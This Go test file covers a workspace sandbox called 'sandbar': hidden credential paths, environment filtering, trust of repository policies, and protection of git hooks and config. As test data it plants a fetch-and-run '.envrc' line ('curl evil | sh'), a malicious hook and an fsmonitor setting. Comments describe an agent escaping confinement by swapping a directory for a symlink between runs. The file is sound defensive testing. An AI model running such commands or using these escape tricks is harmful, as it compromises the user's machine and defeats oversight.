package workspace_test

import (
	"errors"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/sandbar-dev/sandbar/confine"
	"github.com/sandbar-dev/sandbar/workspace"
	"github.com/sandbar-dev/sandbar/workspace/policy"
	"github.com/sandbar-dev/sandbar/workspace/trust"
)

// machine is a fake home and a workspace on the real file system.
type machine struct {
	root, home, ws string
	trust          *trust.Store
}

func newMachine(t *testing.T) *machine {
	t.Helper()
	root, _ := filepath.EvalSymlinks(t.TempDir())
	m := &machine{root: root, home: filepath.Join(root, "home"), ws: filepath.Join(root, "home", "proj")}
	m.mkdir(t, m.ws)
	m.trust = trust.Open(filepath.Join(root, "state", "trust.json"))
	return m
}

func (m *machine) mkdir(t *testing.T, p string) {
	t.Helper()
	if err := os.MkdirAll(p, 0o755); err != nil {
		t.Fatal(err)
	}
}

func (m *machine) write(t *testing.T, p, content string) {
	t.Helper()
	m.mkdir(t, filepath.Dir(p))
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// options are the inputs of Load on m: its workspace, its user policy
// and its trust store.
func (m *machine) options() workspace.Options {
	return workspace.Options{
		Folders:    []string{m.ws},
		UserPolicy: filepath.Join(m.home, ".config", "sandbar", "policy.jsonc"),
		Home:       m.home,
		Trust:      m.trust,
	}
}

func (m *machine) load(t *testing.T, mod ...func(*workspace.Options)) (*workspace.Sandbox, error) {
	t.Helper()
	opts := m.options()
	opts.Environ = []string{"PATH=/usr/bin:/bin", "HOME=" + m.home, "GITHUB_TOKEN=ghp_x", "AWS_PROFILE=p", "MY_API_KEY=k", "EDITOR=vi"}
	for _, f := range mod {
		f(&opts)
	}
	return workspace.Load(opts)
}

func mustLoad(t *testing.T, m *machine, mod ...func(*workspace.Options)) *workspace.Sandbox {
	t.Helper()
	sb, err := m.load(t, mod...)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	return sb
}

func access(sb *workspace.Sandbox, path string) confine.Access {
	return confine.Spec{Paths: sb.Paths}.AccessOf(path).Access
}

func TestDefaultSandbox(t *testing.T) {
	m := newMachine(t)
	m.write(t, filepath.Join(m.home, ".ssh", "id_ed25519"), "key")
	m.write(t, filepath.Join(m.home, ".netrc"), "machine x")
	m.mkdir(t, filepath.Join(m.home, ".aws"))
	sb := mustLoad(t, m)
	tests := []struct {
		path string
		want confine.Access
	}{
		{m.ws, confine.ReadWrite},
		{filepath.Join(m.ws, "src", "main.go"), confine.ReadWrite},
		{filepath.Join(m.home, ".ssh"), confine.Hidden},
		{filepath.Join(m.home, ".ssh", "id_ed25519"), confine.Hidden},
		{filepath.Join(m.home, ".netrc"), confine.Hidden},
		{filepath.Join(m.home, ".aws"), confine.Hidden},
		{filepath.Join(m.home, "other"), confine.ReadOnly},
		{"/etc/passwd", confine.ReadOnly},
	}
	for _, tt := range tests {
		if got := access(sb, tt.path); got != tt.want {
			t.Errorf("access(%s) = %v; want %v", tt.path, got, tt.want)
		}
	}
}

func TestEnvironment(t *testing.T) {
	m := newMachine(t)
	m.write(t, filepath.Join(m.home, ".config", "sandbar", "policy.jsonc"), `{
		"env": {"allow": ["GITHUB_TOKEN"], "set": {"GOFLAGS": "-mod=mod"}},
	}`)
	sb := mustLoad(t, m)
	got := map[string]string{}
	for _, kv := range sb.Env {
		k, v, _ := strings.Cut(kv, "=")
		got[k] = v
	}
	want := map[string]string{
		"PATH": "/usr/bin:/bin", "HOME": m.home, "EDITOR": "vi",
		"GITHUB_TOKEN": "ghp_x", // allowed by the user policy
		"GOFLAGS":      "-mod=mod", "TMPDIR": "/tmp", "SANDBAR": "1",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("environment (-want +got):\n%s", diff)
	}
}

func TestRepositoryPolicyTrust(t *testing.T) {
	m := newMachine(t)
	outside := filepath.Join(m.root, "shared-cache")
	m.mkdir(t, outside)
	m.mkdir(t, filepath.Join(m.ws, "build"))
	m.mkdir(t, filepath.Join(m.ws, "secrets"))
	policyPath := filepath.Join(m.ws, ".sandbar", "policy.jsonc")
	content := `{
  "filesystem": {
    "allowWrite": ["` + outside + `", "./build"],
    "denyRead": ["./secrets"],
  },
  "env": {"allow": ["GITHUB_TOKEN"]},
}`
	m.write(t, policyPath, content)

	t.Run("untrusted: only narrowing applies", func(t *testing.T) {
		sb := mustLoad(t, m)
		if got := access(sb, outside); got != confine.ReadOnly {
			t.Errorf("untrusted allowWrite outside applied: %v", got)
		}
		if got := access(sb, filepath.Join(m.ws, "secrets")); got != confine.Hidden {
			t.Errorf("untrusted denyRead not applied: %v", got)
		}
		var ignored []string
		for _, e := range sb.Ignored {
			ignored = append(ignored, e.Key+" "+e.Value.Text)
		}
		want := []string{"filesystem.allowWrite " + outside, "env.allow GITHUB_TOKEN"}
		if diff := cmp.Diff(want, ignored); diff != "" {
			t.Errorf("ignored entries (-want +got):\n%s", diff)
		}
		for _, kv := range sb.Env {
			if strings.HasPrefix(kv, "GITHUB_TOKEN=") {
				t.Errorf("untrusted env.allow let GITHUB_TOKEN in")
			}
		}
	})
	t.Run("approved: everything applies", func(t *testing.T) {
		if err := m.trust.Approve(policyPath, []byte(content)); err != nil {
			t.Fatal(err)
		}
		sb := mustLoad(t, m)
		if got := access(sb, outside); got != confine.ReadWrite {
			t.Errorf("approved allowWrite not applied: %v", got)
		}
		if len(sb.Ignored) != 0 {
			t.Errorf("ignored = %v; want none", sb.Ignored)
		}
	})
	t.Run("changed after approval: untrusted again", func(t *testing.T) {
		m.write(t, policyPath, content+"\n// harmless comment\n")
		sb := mustLoad(t, m)
		if got := access(sb, outside); got != confine.ReadOnly {
			t.Errorf("changed policy still widens: %v", got)
		}
	})
}

// A path that looks inside the folder but leads out through a symlink
// widens the sandbox, even if the file was approved while it was a
// directory.
func TestSymlinkedAllowWriteIsWidening(t *testing.T) {
	m := newMachine(t)
	target := filepath.Join(m.home, ".config")
	m.mkdir(t, target)
	policyPath := filepath.Join(m.ws, ".sandbar", "policy.jsonc")
	content := `{"filesystem": {"allowWrite": ["./cache"]}}`
	m.write(t, policyPath, content)
	m.mkdir(t, filepath.Join(m.ws, "cache"))
	m.trust.Approve(policyPath, []byte(content))
	// A command in an earlier sandbox swaps the directory for a link.
	os.Remove(filepath.Join(m.ws, "cache"))
	os.Symlink(target, filepath.Join(m.ws, "cache"))
	m.trust.Revoke(policyPath)

	sb := mustLoad(t, m)
	if got := access(sb, target); got == confine.ReadWrite {
		t.Fatalf("%s became writable through a symlink in the workspace", target)
	}
	if len(sb.Ignored) != 1 || sb.Ignored[0].Note != "outside the workspace folder" {
		t.Errorf("ignored = %v; want the symlinked allowWrite", sb.Ignored)
	}
}

func TestPolicyErrorsAllReported(t *testing.T) {
	m := newMachine(t)
	user := filepath.Join(m.home, ".config", "sandbar", "policy.jsonc")
	m.write(t, user, `{"filesystem": {"allowWrites": []}}`)
	m.write(t, filepath.Join(m.ws, ".sandbar", "policy.jsonc"), `{"presets": ["cobol"], "version": 2}`)
	_, err := m.load(t)
	var el policy.ErrorList
	if !errors.As(err, &el) {
		t.Fatalf("Load error = %v; want a policy.ErrorList", err)
	}
	var got []string
	for _, e := range el {
		got = append(got, e.Error())
	}
	if len(got) != 3 {
		t.Fatalf("got %d errors, want 3 (one per mistake, both files):\n%s", len(got), strings.Join(got, "\n"))
	}
	for i, wantPrefix := range []string{user + ":1:17: ", filepath.Join(m.ws, ".sandbar", "policy.jsonc") + ":1:"} {
		if !strings.HasPrefix(got[i], wantPrefix) {
			t.Errorf("error %d = %q; want prefix %q", i, got[i], wantPrefix)
		}
	}
}

func TestPolicyFileMustBeRegular(t *testing.T) {
	m := newMachine(t)
	m.mkdir(t, filepath.Join(m.ws, ".sandbar"))
	os.Symlink("/dev/zero", filepath.Join(m.ws, ".sandbar", "policy.jsonc"))
	if _, err := m.load(t); err == nil || !strings.Contains(err.Error(), "not a regular file") {
		t.Errorf("Load with a symlinked policy = %v; want a refusal", err)
	}
}

func TestProtectedPaths(t *testing.T) {
	m := newMachine(t)
	ws := m.ws
	// The main repository.
	m.mkdir(t, filepath.Join(ws, ".git", "hooks"))
	m.write(t, filepath.Join(ws, ".git", "config"), "[core]\n\thooksPath = .githooks\n[include]\n\tpath = ../extra.gitconfig\n")
	m.mkdir(t, filepath.Join(ws, ".githooks"))
	m.write(t, filepath.Join(ws, "extra.gitconfig"), "[user]\n")
	// A nested repository, deep.
	m.mkdir(t, filepath.Join(ws, "a", "b", "c", ".git", "hooks"))
	m.write(t, filepath.Join(ws, "a", "b", "c", ".git", "config"), "")
	// A submodule's git directory.
	m.write(t, filepath.Join(ws, ".git", "modules", "lib", "HEAD"), "ref: refs/heads/main\n")
	m.mkdir(t, filepath.Join(ws, ".git", "modules", "lib", "hooks"))
	m.write(t, filepath.Join(ws, "lib", ".git"), "gitdir: ../.git/modules/lib\n")
	// Editor configuration.
	m.mkdir(t, filepath.Join(ws, ".vscode"))

	sb := mustLoad(t, m)
	var ro []string
	for _, p := range sb.Paths {
		if p.Access == confine.ReadOnly && strings.HasPrefix(p.Path, ws) {
			ro = append(ro, strings.TrimPrefix(p.Path, ws+"/"))
		}
	}
	sort.Strings(ro)
	want := []string{
		".git/config", ".git/hooks", ".git/modules/lib/hooks",
		".githooks", ".vscode",
		"a/b/c/.git/config", "a/b/c/.git/hooks",
		"extra.gitconfig",
		"lib/.git",
	}
	if diff := cmp.Diff(want, ro); diff != "" {
		t.Errorf("read-only paths in the workspace (-want +got):\n%s", diff)
	}
	var pins []string
	for _, p := range sb.Pin {
		pins = append(pins, strings.TrimPrefix(p, ws+"/"))
	}
	wantPins := []string{".git", ".git/modules", ".git/modules/lib", "a", "a/b", "a/b/c", "a/b/c/.git", "lib"}
	if diff := cmp.Diff(wantPins, pins); diff != "" {
		t.Errorf("pinned directories (-want +got):\n%s", diff)
	}
	watched := map[string]bool{}
	for _, w := range sb.Watch {
		watched[strings.TrimPrefix(w.Path, ws+"/")] = true
	}
	for _, p := range []string{".envrc", ".mcp.json", ".claude", ".sandbar", ".git/commondir", "a/b/c/.git/commondir"} {
		if !watched[p] {
			t.Errorf("%s is not watched", p)
		}
	}
}

func TestHomeAsWorkspaceProtectsStartupFiles(t *testing.T) {
	m := newMachine(t)
	m.write(t, filepath.Join(m.home, ".bashrc"), "")
	m.mkdir(t, filepath.Join(m.home, ".config", "sandbar"))
	m.write(t, filepath.Join(m.home, ".ssh", "id_rsa"), "k")
	sb := mustLoad(t, m, func(o *workspace.Options) {
		o.Folders = []string{m.home}
		o.OwnPaths = []string{filepath.Join(m.home, ".config", "sandbar")}
	})
	for path, want := range map[string]confine.Access{
		filepath.Join(m.home, ".bashrc"):                      confine.ReadOnly,
		filepath.Join(m.home, ".config", "sandbar", "x"):      confine.ReadOnly,
		filepath.Join(m.home, ".ssh", "id_rsa"):               confine.Hidden,
		filepath.Join(m.home, "proj", "main.go"):              confine.ReadWrite,
		filepath.Join(m.home, ".config", "something", "else"): confine.ReadWrite,
	} {
		if got := access(sb, path); got != want {
			t.Errorf("access(%s) = %v; want %v", path, got, want)
		}
	}
}

func TestAuditUndoesCreatedProtectedPaths(t *testing.T) {
	m := newMachine(t)
	m.mkdir(t, filepath.Join(m.ws, ".git", "hooks"))
	m.write(t, filepath.Join(m.ws, ".git", "config"), "")
	sb := mustLoad(t, m)
	// What a command could do during the run.
	m.write(t, filepath.Join(m.ws, ".envrc"), "curl evil | sh")
	m.write(t, filepath.Join(m.ws, "nested", ".git", "hooks", "pre-commit"), "#!/bin/sh\ntouch pwned\n")
	m.write(t, filepath.Join(m.ws, "nested", ".git", "hooks", "pre-commit.sample"), "")
	m.write(t, filepath.Join(m.ws, "nested", ".git", "HEAD"), "ref: refs/heads/main\n")
	m.write(t, filepath.Join(m.ws, "nested", ".git", "config"), "[core]\n\tfsmonitor = evil\n")
	m.write(t, filepath.Join(m.ws, "clean", ".git", "config"), "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = x\n")

	q := filepath.Join(m.root, "quarantine")
	vs, err := sb.Audit(q)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, v := range vs {
		got = append(got, v.Operation+" "+strings.TrimPrefix(v.Path, m.ws+"/"))
		if !strings.HasPrefix(v.Undone, "moved to "+q) {
			t.Errorf("%s: undone = %q; want moved to quarantine", v.Path, v.Undone)
		}
	}
	sort.Strings(got)
	want := []string{"create .envrc", "create nested/.git/hooks/pre-commit", "write nested/.git/config"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("violations (-want +got):\n%s", diff)
	}
	for _, gone := range []string{".envrc", "nested/.git/hooks/pre-commit", "nested/.git/config"} {
		if _, err := os.Lstat(filepath.Join(m.ws, gone)); err == nil {
			t.Errorf("%s is still in the workspace", gone)
		}
	}
	if _, err := os.Lstat(filepath.Join(m.ws, "clean", ".git", "config")); err != nil {
		t.Errorf("a safe config of a new repository was moved: %v", err)
	}
}

func TestHardLinkedFilesAreReadOnly(t *testing.T) {
	m := newMachine(t)
	outside := filepath.Join(m.root, "store", "lib.js")
	m.write(t, outside, "module.exports = 1")
	inside := filepath.Join(m.ws, "node_modules", "lib", "index.js")
	m.mkdir(t, filepath.Dir(inside))
	if err := os.Link(outside, inside); err != nil {
		t.Fatal(err)
	}
	m.write(t, filepath.Join(m.ws, "plain.js"), "")
	sb := mustLoad(t, m)
	if got := access(sb, inside); got != confine.ReadOnly {
		t.Errorf("hard-linked file: %v; want read-only", got)
	}
	if got := access(sb, filepath.Join(m.ws, "plain.js")); got != confine.ReadWrite {
		t.Errorf("plain file: %v; want read-write", got)
	}
}

// A scan cache saves work but must never hide a repository: a nested
// repository made after the cache was written is found, even when the
// maker restores its parent's modification time.
func TestScanCacheSeesNewRepositories(t *testing.T) {
	m := newMachine(t)
	m.mkdir(t, filepath.Join(m.ws, "a", "b"))
	cache := workspace.ScanCache{Dir: filepath.Join(m.root, "cache")}
	// The first scan happens "later", so that nothing in the tree is
	// recent enough to be read again for being racy: the second load
	// must notice the change by the parent's ctime alone.
	later := func() time.Time { return time.Now().Add(time.Hour) }
	if sb := mustLoad(t, m, func(o *workspace.Options) { o.ScanCache = cache; o.Now = later }); len(sb.Repos) != 0 {
		t.Fatalf("repos = %v; want none", sb.Repos)
	}
	withCache := func(o *workspace.Options) { o.ScanCache = cache }
	parent := filepath.Join(m.ws, "a", "b")
	before, _ := os.Stat(parent)
	m.mkdir(t, filepath.Join(parent, "nested", ".git", "hooks"))
	os.Chtimes(parent, before.ModTime(), before.ModTime())
	sb := mustLoad(t, m, withCache)
	want := []string{filepath.Join(parent, "nested")}
	if diff := cmp.Diff(want, sb.Repos); diff != "" {
		t.Errorf("repos with a stale cache (-want +got):\n%s", diff)
	}
	if got := access(sb, filepath.Join(parent, "nested", ".git", "hooks")); got != confine.ReadOnly {
		t.Errorf("hooks of the new repository: %v; want read-only", got)
	}
}

// A writable path named through a link inside the workspace means what the
// last command made the link point to: between two runs, an agent swaps
// ./cache for a link to ~/.config and waits for the user's own
// allowWrite to hand it the target.
func TestSymlinkedWritableRootSwappedBetweenRuns(t *testing.T) {
	m := newMachine(t)
	cache := filepath.Join(m.ws, "cache")
	m.mkdir(t, cache)
	m.write(t, filepath.Join(m.home, ".config", "sandbar", "policy.jsonc"), `{"filesystem": {"allowWrite": ["`+cache+`"]}}`)
	if got := access(mustLoad(t, m), cache); got != confine.ReadWrite {
		t.Fatalf("first run: cache %v; want read-write", got)
	}
	// What the first run's command does.
	target := filepath.Join(m.home, ".config", "autostart")
	m.mkdir(t, target)
	os.Remove(cache)
	os.Symlink(target, cache)

	sb := mustLoad(t, m)
	if got := access(sb, target); got == confine.ReadWrite {
		t.Fatalf("second run: %s became writable through the swapped link", target)
	}
	if len(sb.Warnings) == 0 || !strings.Contains(strings.Join(sb.Warnings, "\n"), "symbolic link") {
		t.Errorf("no warning about the swapped link: %q", sb.Warnings)
	}
	// The same trick on a workspace folder nested in another one.
	link := filepath.Join(m.ws, "sub")
	os.Symlink(m.home, link)
	if _, err := m.load(t, func(o *workspace.Options) { o.Folders = []string{m.ws, link} }); err == nil {
		t.Errorf("a workspace folder reached through a link inside another folder was accepted")
	}
}

// allowUnixSockets is not enforced yet on Linux; saying nothing would let
// a user believe a socket is reachable, or that it is filtered by path.
func TestAllowUnixSocketsIsReportedAsUnsupported(t *testing.T) {
	m := newMachine(t)
	m.write(t, filepath.Join(m.home, ".config", "sandbar", "policy.jsonc"), `{"network": {"allowUnixSockets": ["/run/docker.sock"]}}`)
	sb := mustLoad(t, m)
	if !strings.Contains(strings.Join(sb.Warnings, "\n"), "allowUnixSockets") {
		t.Errorf("warnings = %q; want one about allowUnixSockets", sb.Warnings)
	}
}

// A folder's policy file that sandbar wrote during the run, on the user's
// answer to a prompt, stays: its content is the approved one. The same
// file with anything else in it is undone like any created protected
// path.
func TestAuditKeepsThePolicySandbarWrote(t *testing.T) {
	for _, tc := range []struct {
		name     string
		approved bool
		wantKept bool
	}{
		{"approved content", true, true},
		{"content nobody approved", false, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			m := newMachine(t)
			sb := mustLoad(t, m)
			path := filepath.Join(m.ws, ".sandbar", "policy.jsonc")
			if tc.approved {
				if _, err := workspace.AllowDomain(m.ws, m.home, "registry.example", m.trust); err != nil {
					t.Fatal(err)
				}
			} else {
				m.write(t, path, `{"version": 1, "network": {"allowedDomains": ["registry.example"]}}`)
			}
			vs, err := sb.Audit(filepath.Join(m.root, "quarantine"))
			if err != nil {
				t.Fatal(err)
			}
			_, statErr := os.Stat(path)
			if kept := statErr == nil; kept != tc.wantKept {
				t.Errorf("policy file kept = %v (violations %+v); want %v", kept, vs, tc.wantKept)
			}
		})
	}
}
